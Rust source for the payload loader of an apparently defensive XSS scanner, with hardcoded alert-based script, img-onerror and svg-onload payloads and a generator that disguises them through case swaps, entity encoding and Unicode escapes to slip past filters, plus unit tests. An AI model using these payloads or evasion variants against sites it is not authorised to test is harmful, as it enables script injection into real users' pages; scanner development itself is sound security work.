use log::{info, warn};

use crate::core::ScanMode;
use crate::utils::read_list;

/// Substituted whenever the payload file cannot be read or turns out empty.
/// A scan never runs with an empty payload list.
pub const FALLBACK_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
];

const VARIANT_SOURCE_LIMIT: usize = 50;

/// Loads the payload list for a scan mode and synthesizes evasion variants.
#[derive(Debug, Clone, Default)]
pub struct PayloadLoader {
    pub payloads: Vec<String>,
}

impl PayloadLoader {
    /// Loads payloads for the given mode. An explicit path overrides the
    /// mode's default file. Read failure of any kind falls back to the
    /// hardcoded list; never fatal.
    pub fn load(mode: ScanMode, path_override: Option<&str>, max_payloads: usize) -> Self {
        let path = path_override.unwrap_or_else(|| Self::default_file(mode));

        let mut payloads = match read_list(path) {
            Ok(lines) => {
                info!("Loaded {} payloads from {}", lines.len(), path);
                let variants = generate_variants(&lines);
                let mut all = lines;
                all.extend(variants);
                all
            }
            Err(e) => {
                warn!("Failed to read payload file {}: {}; using fallback payloads", path, e);
                Vec::new()
            }
        };

        if max_payloads > 0 && payloads.len() > max_payloads {
            info!("Limiting payloads to first {} for quick test", max_payloads);
            payloads.truncate(max_payloads);
        }

        // The limit only applies to loaded lists; the fallback always ships whole.
        if payloads.is_empty() {
            warn!("Payload list is empty; using fallback payloads");
            payloads = FALLBACK_PAYLOADS.iter().map(|s| s.to_string()).collect();
        }

        Self { payloads }
    }

    pub fn default_file(mode: ScanMode) -> &'static str {
        match mode {
            ScanMode::Reflected => "payloads.txt",
            ScanMode::Blind => "payload2.txt",
        }
    }

    pub fn payload_count(&self) -> usize {
        self.payloads.len()
    }

    pub fn into_payloads(self) -> Vec<String> {
        self.payloads
    }
}

/// Synthesizes evasion variants from the first entries of the base list:
/// case swaps, HTML-entity encoding of `alert`, and Unicode escapes.
pub fn generate_variants(payloads: &[String]) -> Vec<String> {
    let mut variants = Vec::new();

    for p in payloads.iter().take(VARIANT_SOURCE_LIMIT) {
        // Too short or already wrapped in a data/absolute URL scheme
        if p.chars().count() < 10 || p.contains("data:text") || p.contains("http://") {
            continue;
        }

        variants.push(
            p.replace("script", "ScRiPt")
                .replace("img", "ImG")
                .replace("svg", "SvG"),
        );

        if p.contains("alert") {
            variants.push(p.replace("alert", "&#97;&#108;&#101;&#114;&#116;"));
        }

        if p.chars().count() < 100 {
            variants.push(p.replace("alert", "\\u0061\\u006c\\u0065\\u0072\\u0074"));
        }
    }

    variants
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn strings(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn test_missing_file_falls_back() {
        let loader = PayloadLoader::load(ScanMode::Reflected, Some("nope/missing.txt"), 0);
        assert_eq!(loader.payloads, strings(FALLBACK_PAYLOADS));
    }

    #[test]
    fn test_empty_file_falls_back() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        writeln!(file, "# only comments here").unwrap();
        let loader = PayloadLoader::load(ScanMode::Reflected, file.path().to_str(), 0);
        assert_eq!(loader.payloads, strings(FALLBACK_PAYLOADS));
        assert_eq!(loader.payload_count(), 3);
    }

    #[test]
    fn test_loaded_payloads_gain_variants() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        writeln!(file, "<script>alert(1)</script>").unwrap();
        let loader = PayloadLoader::load(ScanMode::Reflected, file.path().to_str(), 0);

        assert_eq!(loader.payloads[0], "<script>alert(1)</script>");
        assert!(loader.payloads.contains(&"<ScRiPt>alert(1)</ScRiPt>".to_string()));
        assert!(loader
            .payloads
            .contains(&"<script>&#97;&#108;&#101;&#114;&#116;(1)</script>".to_string()));
        assert!(loader
            .payloads
            .contains(&"<script>\\u0061\\u006c\\u0065\\u0072\\u0074(1)</script>".to_string()));
    }

    #[test]
    fn test_max_payloads_truncates() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        for i in 0..20 {
            writeln!(file, "<script>alert({})</script>", i).unwrap();
        }
        let loader = PayloadLoader::load(ScanMode::Reflected, file.path().to_str(), 5);
        assert_eq!(loader.payload_count(), 5);
    }

    #[test]
    fn test_fallback_list_is_never_truncated() {
        let loader = PayloadLoader::load(ScanMode::Reflected, Some("nope/missing.txt"), 1);
        assert_eq!(loader.payloads, strings(FALLBACK_PAYLOADS));
    }

    #[test]
    fn test_variants_skip_short_and_url_payloads() {
        let variants = generate_variants(&strings(&[
            "tiny",
            "http://evil.example/payload-script",
            "data:text/html,<script>alert(1)</script>",
        ]));
        assert!(variants.is_empty());
    }

    #[test]
    fn test_variant_source_window() {
        let base: Vec<String> = (0..60)
            .map(|i| format!("<script>alert({:03})</script>", i))
            .collect();
        let variants = generate_variants(&base);
        // 3 variants per eligible entry, only the first 50 entries considered
        assert_eq!(variants.len(), 150);
        assert!(variants.iter().any(|v| v.contains("(049)")));
        assert!(!variants.iter().any(|v| v.contains("(050)")));
    }
}
